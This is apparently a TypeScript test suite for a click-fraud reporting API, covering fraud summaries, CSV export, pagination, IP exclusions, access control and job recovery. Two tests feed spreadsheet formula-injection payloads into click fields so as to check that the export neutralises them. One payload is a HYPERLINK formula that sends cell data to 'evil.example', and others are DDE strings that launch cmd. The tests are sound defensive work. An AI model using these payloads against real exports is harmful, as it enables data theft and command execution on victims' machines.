import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse as parseWithCsvParse } from 'csv-parse/sync';
import { buildApp } from '../../src/app.ts';
import { createFraudReportRunner } from '../../src/modules/fraud-reports/fraud-report-runner.ts';
import { DIALECTS } from '../helpers/dialects.ts';
import { createTestApp, forEachDialect, testIntel, type TestApp } from '../helpers/test-app.ts';
import { CLICK_DESTINATION, sendClick } from '../helpers/clicks.ts';

const DAY = 86_400_000;
const isoDay = (offsetDays: number) => new Date(Date.now() + offsetDays * DAY).toISOString().slice(0, 10);
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
const IPHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';
const ENV = { TRUST_PROXY: '127.0.0.1' };
/** Small chunks, so a couple of dozen rows cross several chunk borders of the keyset pagination. */
const CHUNK_SIZE = 10;

interface Report {
  id: number;
  campaign_id: number;
  platform: string;
  from: string;
  to: string;
  status: 'processing' | 'ready' | 'failed';
  error: string | null;
  created_at: string;
  completed_at: string | null;
  summary: null | {
    total_clicks: number;
    fraudulent_clicks: number;
    fraud_rate: number;
    fraud_by_type: Record<string, number>;
    estimated_savings: number;
    rows: number;
  };
}

/** RFC 4180: quoted cells may hold commas, CRLF and doubled quotes; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') {
      assert.equal(cell, '', `a quote opens a cell, never sits inside an unquoted one (record ${rows.length + 1})`);
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      assert.notEqual(ch, '\n', 'no bare LF outside quotes');
      cell += ch;
    }
  }
  assert.equal(quoted, false, 'no unterminated quote');
  assert.equal(cell + row.join(''), '', 'the last record ends in CRLF');
  return rows;
}

async function createCampaign(
  t: TestApp,
  token: string,
  fields: Record<string, unknown> = {},
): Promise<{ id: number; uuid: string }> {
  const response = await t.request({
    method: 'POST',
    url: '/api/v1/campaigns',
    token,
    payload: { name: 'Search', destination_url: CLICK_DESTINATION, cost_model: 'cpc', cost_value: 0.5, ...fields },
  });
  assert.equal(response.statusCode, 201, response.body);
  return response.json().data;
}

async function createReport(t: TestApp, token: string, payload: Record<string, unknown>): Promise<Report> {
  const response = await t.request({ method: 'POST', url: '/api/v2/fraud/report', token, payload });
  assert.equal(response.statusCode, 201, response.body);
  return response.json().data;
}

/** The job runs off the request: poll (gently, the account has a plan's rate limit) until it is done. */
async function waitForReport(t: TestApp, token: string, id: number): Promise<Report> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${id}`, token });
    assert.equal(response.statusCode, 200, response.body);
    const report: Report = response.json().data;
    if (report.status !== 'processing') return report;
    assert.ok(Date.now() < deadline, `report ${id} still processing`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

async function readyReport(t: TestApp, token: string, payload: Record<string, unknown>): Promise<Report> {
  const report = await waitForReport(t, token, (await createReport(t, token, payload)).id);
  assert.equal(report.status, 'ready', JSON.stringify(report));
  return report;
}

async function downloadCsv(t: TestApp, token: string, id: number): Promise<string[][]> {
  const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${id}/csv`, token });
  assert.equal(response.statusCode, 200, response.body);
  assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
  assert.equal(response.headers['content-disposition'], `attachment; filename="fraud-report-${id}.csv"`);
  return parseCsv(response.body);
}

const sameSet = (ids: readonly string[]) => [...ids].sort();

/** Rows come in time order; clicks of the same millisecond in the order of their ids (the keyset's tie-break). */
function assertTimeOrder(rows: string[][]): void {
  const times = rows.slice(1).map((r) => r[0]!);
  for (const time of times) assert.match(time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  assert.deepEqual([...times].sort(), times);
}

const bot = (t: TestApp, uuid: string, ip: string, query: Record<string, string> = {}, userAgent = 'curl/8.4.0') =>
  sendClick(t, uuid, { ip, userAgent, query });

forEachDialect(
  'fraud reports',
  (ctx) => {
    test('the summary counts each fraudulent click once under its primary type; the CSV lists them in time order', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      // Three people, one of whom clicks twice; two scripts; a browser on a DigitalOcean server; Google's landing-page crawler.
      await sendClick(t, campaign.uuid, { ip: '84.128.1.10', userAgent: CHROME, query: { gclid: 'g-human-1' } });
      await sendClick(t, campaign.uuid, { ip: '84.128.2.20', userAgent: IPHONE });
      const curl = await bot(t, campaign.uuid, '84.128.3.30', { gclid: 'g-curl' });
      const python = await bot(t, campaign.uuid, '84.128.4.40', {}, 'python-requests/2.31.0');
      await sendClick(t, campaign.uuid, { ip: '84.128.5.50', userAgent: CHROME });
      const repeat = await sendClick(t, campaign.uuid, {
        ip: '84.128.5.50',
        userAgent: CHROME,
        query: { gclid: 'g-again' },
      });
      const cloud = await sendClick(t, campaign.uuid, { ip: '159.89.0.1', userAgent: CHROME });
      await sendClick(t, campaign.uuid, {
        ip: '66.249.66.1',
        userAgent: 'AdsBot-Google (+http://www.google.com/adsbot.html)',
      });

      const created = await createReport(t, token, {
        campaign_id: campaign.id,
        from: isoDay(-6),
        to: isoDay(0),
        platform: 'google',
      });
      assert.deepEqual(Object.keys(created).sort(), [
        'campaign_id',
        'completed_at',
        'created_at',
        'error',
        'from',
        'id',
        'platform',
        'status',
        'summary',
        'to',
      ]);
      assert.equal(created.status, 'processing');
      assert.equal(created.summary, null);
      assert.equal(created.completed_at, null);
      assert.deepEqual(
        [created.campaign_id, created.platform, created.from, created.to],
        [campaign.id, 'google', isoDay(-6), isoDay(0)],
      );

      const report = await waitForReport(t, token, created.id);
      assert.equal(report.status, 'ready', JSON.stringify(report));
      assert.equal(report.error, null);
      assert.match(report.completed_at!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.deepEqual(report.summary, {
        total_clicks: 8,
        fraudulent_clicks: 4,
        fraud_rate: 50,
        fraud_by_type: { bot: 2, rapid_fire: 0, click_farm: 0, datacenter: 1, vpn: 0, duplicate: 1 },
        estimated_savings: 2,
        rows: 4,
      });

      const rows = await downloadCsv(t, token, report.id);
      assert.deepEqual(rows[0], ['time', 'click_id', 'gclid', 'ip', 'country', 'fraud_type', 'reasons', 'cost']);
      assert.equal(rows.length, 1 + 4);
      assert.deepEqual(
        sameSet(rows.slice(1).map((r) => r[1]!)),
        sameSet([curl, python, repeat, cloud]),
        'verified crawler and real clicks left out',
      );
      assertTimeOrder(rows);
      const byId = new Map(rows.slice(1).map((r) => [r[1], r]));
      assert.deepEqual(byId.get(curl)!.slice(2, 6), ['g-curl', '84.128.3.30', 'DE', 'bot']);
      assert.match(byId.get(curl)![6]!, /^User agent "curl\/8\.4\.0" is /);
      assert.equal(byId.get(curl)![7], '0.50');
      assert.deepEqual(byId.get(repeat)!.slice(2, 6), ['g-again', '84.128.5.50', 'DE', 'duplicate']);
      assert.match(byId.get(repeat)![6]!, /Same IP and user agent/);
      assert.deepEqual(byId.get(cloud)!.slice(3, 6), ['159.89.0.1', byId.get(cloud)![4]!, 'datacenter']);
      assert.match(byId.get(cloud)![6]!, /DigitalOcean|hosting/i);
      assert.equal(byId.get(python)![2], '', 'no gclid: an empty cell');

      // Shown in the list too, newest first.
      const second = await readyReport(t, token, { campaign_id: campaign.id, platform: 'meta' });
      const list = await t.request({ method: 'GET', url: '/api/v2/fraud/reports', token });
      assert.equal(list.statusCode, 200, list.body);
      assert.deepEqual(list.json().meta, { page: 1, per_page: 20, total: 2 });
      assert.deepEqual(
        list.json().data.map((r: Report) => r.id),
        [second.id, report.id],
      );
      assert.deepEqual(list.json().data[1], report);
    });

    test('estimated savings and the cost column follow the cost model: cpm a thousandth per click, cpa nothing', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const cpm = await createCampaign(t, token, { cost_model: 'cpm', cost_value: 2.5 });
      const cpa = await createCampaign(t, token, { cost_model: 'cpa', cost_value: 30 });
      for (let i = 0; i < 4; i++) {
        await bot(t, cpm.uuid, `84.129.${i}.1`);
        await bot(t, cpa.uuid, `84.130.${i}.1`);
      }
      const cpmReport = await readyReport(t, token, { campaign_id: cpm.id, platform: 'tiktok' });
      assert.equal(cpmReport.summary!.fraudulent_clicks, 4);
      assert.equal(cpmReport.summary!.estimated_savings, 0.01);
      const cpmRows = await downloadCsv(t, token, cpmReport.id);
      assert.equal(cpmRows[0]![2], 'ttclid');
      assert.ok(
        cpmRows.slice(1).every((r) => r[7] === '0.0025'),
        JSON.stringify(cpmRows),
      );
      const cpaReport = await readyReport(t, token, { campaign_id: cpa.id, platform: 'microsoft' });
      assert.equal(cpaReport.summary!.estimated_savings, 0);
      assert.equal(cpaReport.summary!.fraud_rate, 100);
      const cpaRows = await downloadCsv(t, token, cpaReport.id);
      assert.equal(cpaRows[0]![2], 'msclkid');
      assert.ok(cpaRows.slice(1).every((r) => r[7] === '0.00'));
    });

    test('attacker-chosen text never reaches a cell as a formula; quotes, commas and line breaks are RFC 4180 quoted', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const payloads = [
        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        "+1+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(1+1)',
        '\tTAB',
        'a,b "c"\r\nnext',
      ];
      const sent = new Map<string, string>();
      for (const [i, payload] of payloads.entries()) {
        sent.set(await bot(t, campaign.uuid, `84.131.${i}.1`, { fbclid: payload, sub1: `=sub${i}` }), payload);
      }
      // A user agent that is itself a formula: the reason quotes it.
      const formulaAgent = await bot(t, campaign.uuid, '84.131.9.1', {}, "=cmd|' /C calc'!A0 curl/8.4.0");
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'meta' });
      assert.equal(report.summary!.rows, payloads.length + 1);
      const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token });
      const rows = parseCsv(response.body);
      assert.equal(rows[0]![2], 'fbclid');
      for (const row of rows) {
        for (const cell of row)
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
      }
      for (const row of rows.slice(1)) {
        const payload = sent.get(row[1]!);
        if (payload !== undefined)
          assert.equal(
            row[2],
            /^[=+\-@\t]/.test(payload) ? `'${payload}` : payload,
            'neutralised by a leading apostrophe, otherwise intact',
          );
      }
      assert.ok(
        rows.some((row) => row[1] === formulaAgent && row[6]!.includes('"=cmd|')),
        'the quoted user agent survives inside the reason',
      );
      assert.match(
        response.body,
        /,"a,b ""c""\r\nnext",/,
        'quoted, quotes doubled, the line break kept inside the cell',
      );
    });

    test("a gclid with a lone line break (gclid=%0A%3Dcmd|' /C calc'!A0) stays in its cell and never opens a formula row", async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const payloads = ["\n=cmd|' /C calc'!A0", "\r=cmd|' /C calc'!A0", 'x\n@SUM(1)', '\t=1'];
      const sent = new Map<string, string>();
      for (const [i, payload] of payloads.entries()) {
        sent.set(await bot(t, campaign.uuid, `84.132.${i}.1`, { gclid: payload }), payload);
      }
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
      const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token });
      assert.equal(response.statusCode, 200, response.body);
      // A real CSV reader, as a spreadsheet import does: a bare line break would add a row or break the column count.
      const rows = parseWithCsvParse(response.body, { record_delimiter: '\r\n' }) as string[][];
      assert.equal(rows.length, payloads.length + 1, 'one header and one row per click, nothing more');
      assert.equal(rows[0]![2], 'gclid');
      for (const row of rows.slice(1)) {
        const payload = sent.get(row[1]!);
        assert.ok(payload !== undefined, `row ${JSON.stringify(row)} is one of our clicks`);
        assert.equal(row[2], /^[\t\r\n=]/.test(payload) ? `'${payload}` : payload);
        for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/, `cell ${JSON.stringify(cell)} would run`);
      }
    });

    test('keyset pagination: every fraudulent click exactly once, in order, across chunk borders', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const expected: string[] = [];
      // 25 rows: chunks of 10, 10 and 5 (and a human in between that must not count).
      for (let i = 0; i < 25; i++) {
        expected.push(await bot(t, campaign.uuid, `84.${140 + (i % 5)}.${i}.1`, { gclid: `g${i}` }));
        if (i % 10 === 0) await sendClick(t, campaign.uuid, { ip: `84.150.${i}.1`, userAgent: CHROME });
      }
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
      assert.equal(report.summary!.fraudulent_clicks, 25);
      assert.equal(report.summary!.total_clicks, 28);
      assert.equal(report.summary!.rows, 25);
      const rows = await downloadCsv(t, token, report.id);
      const ids = rows.slice(1).map((r) => r[1]!);
      assert.equal(new Set(ids).size, 25, 'no click twice');
      assert.deepEqual(sameSet(ids), sameSet(expected));
      assertTimeOrder(rows);
      const gclidOf = new Map(expected.map((id, i) => [id, `g${i}`]));
      for (const row of rows.slice(1)) assert.equal(row[2], gclidOf.get(row[1]!));

      // Exactly one chunk's worth, and a multiple of it: the last read comes back empty, nothing is repeated.
      const tenth = await createCampaign(t, token);
      for (let i = 0; i < 20; i++) await bot(t, tenth.uuid, `84.160.${i}.1`);
      const even = await readyReport(t, token, { campaign_id: tenth.id, platform: 'google' });
      assert.equal(even.summary!.rows, 20);
      assert.equal((await downloadCsv(t, token, even.id)).length, 21);
    });

    test('google reports offer the IP exclusion list: most costly first, /24 farms as one range, as JSON or text', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      for (const ip of ['84.128.7.1', '84.128.7.2', '84.128.7.3']) await bot(t, campaign.uuid, ip);
      await bot(t, campaign.uuid, '84.128.8.8');
      await bot(t, campaign.uuid, '84.128.8.8');
      await bot(t, campaign.uuid, '2003::9');
      await sendClick(t, campaign.uuid, { ip: '84.128.9.9', userAgent: CHROME });
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
      const json = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/ip-exclusions`, token });
      assert.equal(json.statusCode, 200, json.body);
      assert.deepEqual(json.json(), {
        success: true,
        data: {
          entries: [
            { value: '84.128.7.*', clicks: 3, cost: 1.5 },
            { value: '84.128.8.8', clicks: 2, cost: 1 },
            { value: '2003::9', clicks: 1, cost: 0.5 },
          ],
          truncated: false,
        },
      });
      const text = await t.request({
        method: 'GET',
        url: `/api/v2/fraud/report/${report.id}/ip-exclusions?format=text`,
        token,
      });
      assert.equal(text.statusCode, 200);
      assert.equal(text.headers['content-type'], 'text/plain; charset=utf-8');
      assert.equal(text.body, '84.128.7.*\n84.128.8.8\n2003::9\n');

      const meta = await readyReport(t, token, { campaign_id: campaign.id, platform: 'meta' });
      const refused = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${meta.id}/ip-exclusions`, token });
      assert.equal(refused.statusCode, 400);
      assert.equal(refused.json().error.code, 'VALIDATION_ERROR');
      assert.match(refused.json().error.message, /Google Ads.*meta/);
    });

    test('a report still processing has no CSV yet: 400 saying so', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
      // As if another node held the job right now.
      await t.storage.db
        .updateTable('fraud_reports')
        .set({ status: 'processing', summary: null, completed_at: null, claimed_until: Date.now() + 3_600_000 })
        .where('id', '=', report.id)
        .execute();
      for (const path of ['csv', 'ip-exclusions']) {
        const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/${path}`, token });
        assert.equal(response.statusCode, 400, response.body);
        assert.equal(response.json().error.code, 'VALIDATION_ERROR');
        assert.match(response.json().error.message, /still processing/);
      }
      assert.equal(
        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token })).json().data.summary,
        null,
      );
    });

    test("bad input is 400; unknown and other accounts' campaigns and reports are 404", async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const post = (payload: Record<string, unknown>, as = token) =>
        t.request({ method: 'POST', url: '/api/v2/fraud/report', token: as, payload });
      const base = { campaign_id: campaign.id, platform: 'google' };
      const bad: Array<[Record<string, unknown>, string, RegExp]> = [
        [{ ...base, from: '2024-02-31' }, 'from', /date/],
        [{ ...base, from: 'yesterday' }, 'from', /./],
        [{ ...base, from: isoDay(0), to: isoDay(-1) }, 'from', /after/],
        [{ ...base, from: isoDay(-400), to: isoDay(-30) }, 'to', /366 days/],
        [{ ...base, from: isoDay(-90), to: isoDay(0) }, 'from', /90 days/],
        [{ ...base, platform: 'yahoo' }, 'platform', /google, meta, tiktok, microsoft/],
        [{ platform: 'google' }, 'campaign_id', /required/],
        [{ ...base, campaign_id: 'one' }, 'campaign_id', /integer/],
        [{ ...base, extra: 1 }, 'extra', /not allowed/],
      ];
      for (const [payload, field, message] of bad) {
        const response = await post(payload);
        assert.equal(response.statusCode, 400, `${JSON.stringify(payload)}: ${response.body}`);
        assert.equal(response.json().error.code, 'VALIDATION_ERROR');
        assert.ok(response.json().error.details[field], `${field} named in ${response.body}`);
        assert.match(response.json().error.message, message);
      }
      // The oldest day the retention keeps is accepted.
      assert.equal((await post({ ...base, from: isoDay(-89), to: isoDay(0) })).statusCode, 201);

      const other = await t.signUp();
      const foreign = await createCampaign(t, other.token);
      assert.equal((await post({ ...base, campaign_id: foreign.id })).statusCode, 404);
      assert.equal((await post({ ...base, campaign_id: 999_999 })).json().error.code, 'NOT_FOUND');
      await t.request({ method: 'DELETE', url: `/api/v1/campaigns/${foreign.id}`, token: other.token });
      assert.equal(
        (await post({ ...base, campaign_id: foreign.id }, other.token)).statusCode,
        404,
        'a deleted campaign has no new reports',
      );

      const mine = await readyReport(t, token, base);
      for (const path of ['', '/csv', '/ip-exclusions']) {
        const theirs = await t.request({
          method: 'GET',
          url: `/api/v2/fraud/report/${mine.id}${path}`,
          token: other.token,
        });
        assert.equal(theirs.statusCode, 404, `${path}: ${theirs.body}`);
        assert.equal(theirs.json().error.code, 'NOT_FOUND');
        assert.equal(
          (await t.request({ method: 'GET', url: `/api/v2/fraud/report/999999${path}`, token })).statusCode,
          404,
        );
      }
      assert.equal(
        (await t.request({ method: 'GET', url: '/api/v2/fraud/reports', token: other.token })).json().meta.total,
        0,
      );
      assert.equal((await t.request({ method: 'GET', url: '/api/v2/fraud/report/abc', token })).statusCode, 400);
    });

    test('no token is 401; a read-only API key reads reports but cannot create one (403)', async () => {
      const t = ctx();
      const { token } = await t.signUp();
      const campaign = await createCampaign(t, token);
      const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
      for (const [method, url] of [
        ['POST', '/api/v2/fraud/report'],
        ['GET', `/api/v2/fraud/report/${report.id}`],
        ['GET', `/api/v2/fraud/report/${report.id}/csv`],
        ['GET', '/api/v2/fraud/reports'],
      ] as const) {
        const response = await t.request({
          method,
          url,
          payload: method === 'POST' ? { campaign_id: campaign.id, platform: 'google' } : undefined,
        });
        assert.equal(response.statusCode, 401, url);
        assert.equal(response.json().error.code, 'AUTHENTICATION_ERROR');
      }
      const key = (
        await t.request({
          method: 'POST',
          url: '/api/v1/api-keys',
          token,
          payload: { name: 'reporting', scope: 'read' },
        })
      ).json().data;
      const readToken = (
        await t.request({
          method: 'POST',
          url: '/api/v1/auth/token',
          payload: { api_key: key.api_key, api_secret: key.api_secret },
        })
      ).json().token;
      const refused = await t.request({
        method: 'POST',
        url: '/api/v2/fraud/report',
        token: readToken,
        payload: { campaign_id: campaign.id, platform: 'google' },
      });
      assert.equal(refused.statusCode, 403);
      assert.equal(refused.json().error.code, 'AUTHORIZATION_ERROR');
      assert.equal(
        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token: readToken })).statusCode,
        200,
      );
      assert.equal(
        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token: readToken })).statusCode,
        200,
      );
    });
  },
  ENV,
  { fraudReports: { chunkSize: CHUNK_SIZE } },
);

const silent = { error: () => undefined, warn: () => undefined };

for (const dialect of DIALECTS) {
  test(`fraud reports survive the process [${dialect.name}]: a job cut off is finished after a restart; a job that throws fails with a reason`, async () => {
    const first = await createTestApp(dialect, ENV, { fraudReports: { chunkSize: CHUNK_SIZE } });
    const { token } = await first.signUp();
    const campaign = await createCampaign(first, token);
    for (let i = 0; i < 12; i++) await bot(first, campaign.uuid, `84.170.${i}.1`);
    const finished = await readyReport(first, token, { campaign_id: campaign.id, platform: 'google' });
    const doomed = await readyReport(first, token, { campaign_id: campaign.id, platform: 'meta' });
    await first.app.close();
    const { db } = first.storage;

    try {
      // A job whose computation throws: the report fails, with a reason its owner can read and no internals.
      await db
        .updateTable('fraud_reports')
        .set({ status: 'processing', summary: null, completed_at: null, claimed_until: null })
        .where('id', '=', doomed.id)
        .execute();
      const failing = createFraudReportRunner({
        db,
        log: silent,
        now: Date.now,
        compute: async () => Promise.reject(new Error('relation "clicks" is on fire')),
      });
      failing.kick();
      for (let i = 0; i < 200; i++) {
        const row = await db
          .selectFrom('fraud_reports')
          .select('status')
          .where('id', '=', doomed.id)
          .executeTakeFirstOrThrow();
        if (row.status !== 'processing') break;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      await failing.close();

      // A graceful shutdown mid-job: close() cuts the job off at its next chunk and hands the report back, attempt refunded.
      await db
        .updateTable('fraud_reports')
        .set({ status: 'processing', summary: null, completed_at: null, claimed_until: null, attempts: 0 })
        .where('id', '=', finished.id)
        .execute();
      let entered!: () => void;
      const running = new Promise<void>((resolve) => (entered = resolve));
      const endless = createFraudReportRunner({
        db,
        log: silent,
        now: Date.now,
        compute: async (_report, between) => {
          entered();
          for (;;) await between();
        },
      });
      endless.kick();
      await running;
      await endless.close();
      const handedBack = await db
        .selectFrom('fraud_reports')
        .selectAll()
        .where('id', '=', finished.id)
        .executeTakeFirstOrThrow();
      assert.deepEqual(
        [handedBack.status, handedBack.claimed_until, Number(handedBack.attempts)],
        ['processing', null, 0],
      );

      // The server was killed mid-job: the row is still processing and its runner's lease has run out.
      await db
        .updateTable('fraud_reports')
        .set({
          status: 'processing',
          summary: null,
          ip_exclusions: null,
          completed_at: null,
          claimed_until: Date.now() - 1_000,
          attempts: 1,
        })
        .where('id', '=', finished.id)
        .execute();

      const second = await buildApp({
        config: first.config,
        storage: first.storage,
        logger: false,
        intel: await testIntel(),
        fraudReports: { chunkSize: CHUNK_SIZE },
      });
      try {
        const restarted: TestApp = {
          ...first,
          app: second,
          request: ({ token: bearer, headers, ...options }) =>
            second.inject({
              ...options,
              headers: { ...(bearer ? { authorization: `Bearer ${bearer}` } : {}), ...headers },
            }),
        };
        const again = await waitForReport(restarted, token, finished.id);
        assert.equal(again.status, 'ready');
        assert.deepEqual(again.summary, finished.summary);
        assert.equal(again.summary!.rows, 12);
        const exclusions = await restarted.request({
          method: 'GET',
          url: `/api/v2/fraud/report/${finished.id}/ip-exclusions`,
          token,
        });
        assert.equal(exclusions.json().data.entries.length, 12);

        const failed = await waitForReport(restarted, token, doomed.id);
        assert.equal(failed.status, 'failed');
        assert.equal(failed.summary, null);
        assert.match(failed.error!, /internal error/);
        assert.doesNotMatch(failed.error!, /on fire/, 'internals stay in the log');
        const csv = await restarted.request({ method: 'GET', url: `/api/v2/fraud/report/${doomed.id}/csv`, token });
        assert.equal(csv.statusCode, 400);
        assert.match(csv.json().error.message, /^The report failed: .*internal error/);
      } finally {
        await second.close();
      }
    } finally {
      await first.storage.dispose();
    }
  });
}
